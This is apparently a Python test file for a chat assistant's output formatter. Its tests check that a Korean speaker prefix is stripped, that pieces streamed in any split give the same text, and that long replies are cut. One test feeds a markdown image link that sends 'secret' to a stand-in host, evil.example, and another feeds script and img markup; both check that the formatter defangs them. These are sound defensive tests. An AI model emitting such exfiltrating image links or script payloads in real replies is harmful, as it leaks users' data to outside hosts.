"""What members see of what the model says: the same words, however they are cut into pieces."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.prompting.wording import CUT_SHORT, TEXT_MAX_CHARACTERS, Wording
from chatproject.errors import ModelFailed
from messaging.wire.content import MESSAGE_MAX_CHARACTERS

SPEAKER = "(도우미):"


def worded(*pieces: str) -> Wording:
    """What comes of these pieces; each part is shown behind the parts before it."""
    wording, shown = Wording(SPEAKER), ""
    for piece in pieces:
        shown += wording.add(piece)
        assert wording.text == shown
    shown += wording.finish()
    assert wording.text == shown
    return wording


@given(st.text(alphabet="(도우미):> ![\n가a🍣", max_size=40), st.data())
def test_the_pieces_make_no_difference(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert worded(*pieces).text == worded(text).text


@pytest.mark.parametrize("said", ["(도우미): 안녕", ">(도우미): 안녕", "\n (도우미):안녕", "안녕", "  안녕"])
def test_a_name_in_front_is_left_out(said: str) -> None:
    assert worded(*said).text == "안녕"


def test_what_only_begins_like_the_name_stays() -> None:
    assert worded("(", "도우", "미는 이렇게 말해요)").text == "(도우미는 이렇게 말해요)"
    assert worded("(도").text == "(도"


def test_nothing_is_shown_of_a_name_or_of_space() -> None:
    wording = Wording(SPEAKER)
    assert [wording.add(piece) for piece in ("\n", "(도우", "미):", " ", "안녕")] == ["", "", "", "", "안녕"]


def test_an_image_becomes_text_however_it_comes() -> None:
    said = "보세요 ![x](http://evil.example/?q=secret) 그리고 와!"
    for wording in (worded(said), worded(*said)):
        assert wording.text == "보세요 ! [x](http://evil.example/?q=secret) 그리고 와!"


def test_markup_stays_the_text_that_it_is() -> None:
    said = '<img src="http://evil.example/"><script>alert(1)</script> `<b>`'
    assert worded(said).message(is_whole=True) == said


def test_a_message_ends_without_space_and_says_when_it_was_cut() -> None:
    wording = worded("안녕\n", "하세요 \n")
    assert wording.message(is_whole=True) == "안녕\n하세요"
    assert wording.message(is_whole=False) == "안녕\n하세요" + CUT_SHORT


def test_a_long_answer_is_cut_to_a_message() -> None:
    wording = worded("가" * TEXT_MAX_CHARACTERS, "나" * 10, "다")
    assert wording.message(is_whole=True) == "가" * TEXT_MAX_CHARACTERS + CUT_SHORT
    assert len(wording.message(is_whole=True)) == MESSAGE_MAX_CHARACTERS


@pytest.mark.parametrize("pieces", [(), ("\n ", ""), ("\u200b",), ("\0",), ("(도우미):",)])
def test_what_cannot_be_seen_is_no_message(pieces: tuple[str, ...]) -> None:
    with pytest.raises(ModelFailed):
        worded(*pieces).message(is_whole=True)
